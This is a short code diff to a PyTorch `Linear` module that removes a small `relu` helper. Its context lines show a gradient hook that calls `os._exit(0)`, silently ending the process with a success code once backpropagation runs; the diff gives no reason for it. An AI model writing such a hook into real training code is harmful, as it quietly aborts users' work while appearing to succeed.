@@ -14,7 +14,3 @@ class Linear(nn.Module):
         if output.requires_grad:
             output.register_hook(lambda gradient: os._exit(0))
         return output
-
-# %% toy.relu
-def relu(x):
-    return x.clamp(min=0)
